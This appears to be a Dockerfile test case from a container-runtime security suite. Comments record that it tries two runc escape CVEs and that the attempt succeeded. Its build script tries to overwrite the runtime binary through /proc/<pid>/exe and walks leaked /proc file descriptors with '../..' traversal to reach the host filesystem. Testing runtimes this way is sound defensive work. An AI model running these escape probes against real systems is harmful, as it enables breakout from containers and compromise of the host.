# tries: the program of the runtime, through /proc/self/exe and the descriptors that it may have left open (CVE-2019-5736, CVE-2024-21626)
# ends: Succeeded
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
RUN <<'ATTACK'
. /lib/hunt.sh
n=0
for pid in self 1 $(others); do
  n=$((n + 1))
  case $(readlink "/proc/$pid/exe") in *busybox | *attack | "") continue ;; esac
  # To open a running program for writing fails whatever the rights are.
  attack writable "/proc/$pid/exe" | sed -n 's/^done/ESCAPED/p'
done
for fd in /proc/self/fd/* /proc/1/fd/*; do
  n=$((n + 1))
  [ -d "$fd" ] && daemon_file "$fd" "$fd/../../../../../../.."
done
tried "$n"
ATTACK
